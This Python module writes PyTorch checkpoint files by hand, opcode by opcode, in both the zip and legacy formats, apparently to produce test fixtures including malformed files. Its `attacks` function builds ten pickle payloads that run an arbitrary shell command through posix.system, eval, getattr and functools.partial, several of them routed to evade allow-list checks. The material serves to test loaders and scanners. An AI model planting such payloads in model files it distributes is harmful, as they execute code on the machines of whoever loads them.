"""Writes files of `torch.save` without torch, honest ones and others.

The pickle is put together by hand, an instruction at a time, so that it can also be
one that no torch would write. `python -m pickletools` prints what is in it.
"""

import dataclasses
import io
import pickle
import struct
import zipfile
from typing import Any

import ml_dtypes
import numpy as np

STORAGES = {
    "float32": "FloatStorage",
    "float64": "DoubleStorage",
    "float16": "HalfStorage",
    "bfloat16": "BFloat16Storage",
    "int64": "LongStorage",
    "int32": "IntStorage",
    "int16": "ShortStorage",
    "int8": "CharStorage",
    "uint8": "ByteStorage",
    "bool": "BoolStorage",
}
assert np.dtype(ml_dtypes.bfloat16).name in STORAGES


@dataclasses.dataclass(frozen=True)
class Global:
    """A class or function by its name."""

    module: str
    name: str


@dataclasses.dataclass(frozen=True)
class Call:
    """What a class or function would return, `state` set on it; or a new object."""

    function: Any
    arguments: tuple = ()
    state: Any = None
    new: bool = False


@dataclasses.dataclass(frozen=True)
class View:
    """A tensor: a view of `storage`, a one-dimensional array that others may share."""

    storage: np.ndarray
    offset: int
    shape: tuple
    strides: tuple
    size: int | None = None  # what the file says of the storage; None: the truth


@dataclasses.dataclass(frozen=True)
class Raw:
    """Instructions of a pickle, as they are."""

    code: bytes


def ordered(items):
    """An OrderedDict with attributes, as `state_dict()` returns it."""
    empty = Call(Global("collections", "OrderedDict"))
    return Filled(empty, dict(items), {"_metadata": {"": {"version": 1}}})


@dataclasses.dataclass(frozen=True)
class Filled:
    """A dict that is made first and filled then."""

    made: Call
    items: dict
    state: Any


def namespace(**settings):
    """An argparse.Namespace."""
    return Call(Global("argparse", "Namespace"), (), settings, new=True)


def save_zip(path, tree, *, root="archive", order=b"little", compression=0, drop=()):
    """The form since torch 1.6; `drop` names members to leave out."""
    content, storages = pickled(tree)
    members = {"data.pkl": content, "version": b"3\n"}
    if order is not None:
        members["byteorder"] = order
    for key, array in storages.items():
        members[f"data/{key}"] = array.tobytes()
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in members.items():
            if name not in drop:
                archive.writestr(f"{root}/{name}", data)
    return path


def save_legacy(path, tree, *, little_endian=True, keys=None, counts=None):
    """The form before torch 1.6."""
    content, storages = pickled(tree, legacy=True)
    sizes = {"short": 2, "int": 4, "long": 4}
    machine = {
        "protocol_version": 1001,
        "little_endian": little_endian,
        "type_sizes": sizes,
    }
    with open(path, "wb") as file:
        for value in (0x1950A86A20F9469CFC6C, 1001, machine):
            file.write(pickle.dumps(value, 2))
        file.write(content)
        file.write(pickle.dumps(list(storages) if keys is None else keys, 2))
        for key, array in storages.items():
            file.write(struct.pack("<q", (counts or {}).get(key, array.size)))
            file.write(array.tobytes())
    return path


def pickled(tree, *, legacy=False):
    """The pickle of a tree, and the storages it names."""
    out, storages = io.BytesIO(), {}
    out.write(b"\x80\x02")
    _write(out, tree, storages, legacy)
    out.write(b".")
    return out.getvalue(), {key: array for key, array in storages.values()}


def _write(out, value, storages, legacy):
    def write(*values):
        for each in values:
            _write(out, each, storages, legacy)

    match value:
        case None:
            out.write(b"N")
        case bool():
            out.write(b"\x88" if value else b"\x89")
        case int() if -(2**31) <= value < 2**31:
            out.write(b"J" + struct.pack("<i", value))
        case int():
            digits = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
            out.write(b"\x8a" + bytes([len(digits)]) + digits)
        case float():
            out.write(b"G" + struct.pack(">d", value))
        case str():
            out.write(_text(value))
        case tuple():
            out.write(b"(")
            write(*value)
            out.write(b"t")
        case list():
            out.write(b"](")
            write(*value)
            out.write(b"e")
        case dict():
            out.write(b"}(")
            write(*(each for pair in value.items() for each in pair))
            out.write(b"u")
        case Raw():
            out.write(value.code)
        case Global():
            out.write(f"c{value.module}\n{value.name}\n".encode())
        case Call():
            write(value.function, value.arguments)
            out.write(b"\x81" if value.new else b"R")
            if value.state is not None:
                write(value.state)
                out.write(b"b")
        case Filled():
            write(value.made)
            out.write(b"(")
            write(*(each for pair in value.items.items() for each in pair))
            out.write(b"u")
            write(value.state)
            out.write(b"b")
        case np.ndarray():
            array = np.ascontiguousarray(value)
            strides = tuple(step // array.itemsize for step in array.strides)
            shape = value.shape
            write(View(array.reshape(-1), 0, shape, strides[: len(shape)]))
        case View():
            key, array = storages.setdefault(
                id(value.storage), (str(len(storages)), value.storage)
            )
            size = array.size if value.size is None else value.size
            kind = Global("torch", STORAGES[array.dtype.name])
            out.write(b"ctorch._utils\n_rebuild_tensor_v2\n(")
            # The old form also says which part of another storage this one is.
            write(("storage", kind, key, "cpu", size) + ((None,) if legacy else ()))
            out.write(b"Q")
            hooks = Call(Global("collections", "OrderedDict"))
            write(value.offset, value.shape, value.strides, False, hooks)
            out.write(b"tR")
        case _:
            raise TypeError(f"no pickle for {value!r}")


def attacks(command):
    """Instructions by which a pickle runs a shell command, each leaving one value.

    They need the header of protocol 4.
    """
    system, words = b"cposix\nsystem\n", _text(command)
    evaluated = _text(f"__import__('posix').system({command!r})")
    return {
        "REDUCE": system + words + b"\x85R",
        "STACK_GLOBAL": _text("posix") + _text("system") + b"\x93" + words + b"\x85R",
        # argparse imports os under this name, and a dotted name goes through it.
        "dotted": _text("argparse") + _text("_os.system") + b"\x93" + words + b"\x85R",
        "INST": b"(" + words + b"iposix\nsystem\n",
        "OBJ": b"(" + system + words + b"o",
        # An attribute __setstate__ is called by the next BUILD.
        "BUILD": b"ctypes\nSimpleNamespace\n)\x81}"
        + (_text("__setstate__") + system + b"sb" + words + b"b"),
        # A name by number, as copyreg.add_extension gave it.
        "EXT1": b"\x82\xf0" + words + b"\x85R",
        "eval": b"cbuiltins\neval\n" + evaluated + b"\x85R",
        "getattr": b"cbuiltins\ngetattr\ncargparse\n_os\n"
        + (_text("system") + b"\x86R" + words + b"\x85R"),
        "partial": b"cfunctools\npartial\n" + system + words + b"\x86R)R",
    }


def _text(value):
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()
